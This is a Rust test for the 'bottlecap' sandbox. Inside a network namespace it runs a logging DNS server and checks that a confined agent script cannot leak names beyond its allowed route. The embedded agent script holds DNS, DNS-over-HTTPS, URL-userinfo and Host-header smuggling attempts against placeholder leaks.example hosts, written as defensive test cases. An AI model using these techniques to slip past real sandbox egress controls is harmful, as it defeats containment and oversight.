//! Names are data that leaves: whoever answers for a name learns what is asked. In a network of its own, with one server that answers for
//! all names and writes down what it was asked, a bottle gets no name to it but those of its routes.
#![allow(clippy::unwrap_used)]

use std::fs;
use std::os::unix::fs::PermissionsExt as _;

use tests::{Binaries, Run};

/// Answers every question with 127.0.0.1, by UDP and TCP, and writes the name down.
const SERVER: &str = r#"
import socket, struct, sys, threading
log = open(sys.argv[1], "a", buffering=1)
def answer(query):
    at, labels = 12, []
    while query[at]:
        labels.append(query[at + 1:at + 1 + query[at]].decode("latin-1"))
        at += 1 + query[at]
    log.write(".".join(labels) + "\n")
    question = query[12:at + 5]
    is_address = question[-4:-2] == b"\0\1"
    record = b"\xc0\x0c\0\1\0\1\0\0\0\0\0\4\x7f\0\0\1" if is_address else b""
    return query[:2] + b"\x81\x80\0\1" + struct.pack(">H", is_address) + b"\0\0\0\0" + question + record
def serve_tcp(listener):
    while True:
        connection, _ = listener.accept()
        data = connection.recv(65535)
        if len(data) > 14:
            reply = answer(data[2:])
            connection.sendall(struct.pack(">H", len(reply)) + reply)
        connection.close()
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.bind(("", 53))
tcp = socket.create_server(("", 53))
threading.Thread(target=serve_tcp, args=(tcp,), daemon=True).start()
print("ready", flush=True)
while True:
    query, sender = udp.recvfrom(4096)
    if len(query) > 12:
        udp.sendto(answer(query), sender)
"#;

/// What an agent may try to get a name out; each has its own name.
const AGENT: &str = r#"
import socket, struct, urllib.request
def attempt(work):
    try: work()
    except Exception: pass
def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"
def by_udp(server, name):
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.settimeout(1)
    sender.sendto(question(name), (server, 53))
    sender.recv(512)
def by_tcp(server, name):
    with socket.create_connection((server, 53), 1) as stream:
        stream.sendall(struct.pack(">H", len(question(name))) + question(name))
        stream.recv(512)
attempt(lambda: socket.getaddrinfo("resolver.leaks.example", 80))
for server in ["127.0.0.1", "127.0.0.53", "127.0.0.11", "198.51.100.53", "8.8.8.8", "egress"]:
    attempt(lambda: by_udp(server, "udp.leaks.example"))
    attempt(lambda: by_tcp(server, "tcp.leaks.example"))
for url in ["http://plain.leaks.example/", "https://tunnel.leaks.example/", "http://allowed.example.leaks.example/", "http://allowed.example:81/",
            "http://allowed.example@user.leaks.example/", "https://dns.google/resolve?name=doh.leaks.example", "http://allowed.example/"]:
    attempt(lambda: urllib.request.urlopen(url, timeout=5).read())
def with_host(target, host):
    with socket.create_connection(("egress", 9099), 5) as stream:
        stream.sendall(f"GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        stream.recv(65535)
attempt(lambda: with_host("http://allowed.example/", "host.leaks.example"))
attempt(lambda: with_host("http://target.leaks.example/", "allowed.example"))
attempt(lambda: with_host("http://192.0.2.9/", "literal.leaks.example"))
print("tried")
"#;

/// In namespaces of its own: the server, a name that the host itself asks for, and the bottle.
const STORY: &str = r#"
set -e
ip link set lo up
# Without an address of its own a host looks no names up.
ip address add 198.51.100.1/32 dev lo
mount --bind resolv.conf /etc/resolv.conf
/usr/bin/python3 server.py asked >ready &
server=$!
trap 'kill $server' EXIT
until grep -q ready ready; do kill -0 $server; sleep 0.1; done
getent ahostsv4 control.example >control
cd work
"$BOTTLECAP" run --bottle ../bottle.yaml --name names --backend sandbox -- /usr/bin/python3 -I -c "$AGENT"
"#;

#[test]
fn no_name_but_those_of_the_routes_gets_to_who_answers_for_it() {
    assert!(
        nix::unistd::geteuid().is_root(),
        "only root can give the host of this story a resolver of its own"
    );
    let root = tempfile::Builder::new().prefix("bc-name-").tempdir().unwrap();
    fs::set_permissions(root.path(), fs::Permissions::from_mode(0o711)).unwrap();
    for name in ["work", "state", "run"] {
        fs::create_dir(root.path().join(name)).unwrap();
    }
    std::os::unix::fs::chown(root.path().join("work"), Some(64_300), Some(64_300)).unwrap();
    let routes =
        "routes:\n  - {host: allowed.example, scheme: http, ports: [80], allow_private: [127.0.0.0/8]}\n";
    for (name, text) in [
        ("server.py", SERVER),
        ("resolv.conf", "nameserver 127.0.0.1\n"),
        ("asked", ""),
        ("bottle.yaml", "routes: routes.yaml\n"),
        ("routes.yaml", routes),
    ] {
        fs::write(root.path().join(name), text).unwrap();
    }
    let bottlecap = Binaries::find().unwrap().program("bottlecap");
    let story = Run::new("unshare").args(["--net", "--mount", "bash", "-c", STORY]).within(root.path());
    let story = story.env("BOTTLECAP", bottlecap).env("AGENT", AGENT);
    let story = story.env("XDG_STATE_HOME", root.path().join("state"));
    let said = story.env("XDG_RUNTIME_DIR", root.path().join("run")).ok().unwrap();
    assert_eq!(said.trim_end(), "tried");

    let asked = fs::read_to_string(root.path().join("asked")).unwrap();
    let mut asked: Vec<&str> = asked.lines().collect();
    asked.sort_unstable();
    asked.dedup();
    assert_eq!(asked, ["allowed.example", "control.example"]);
}
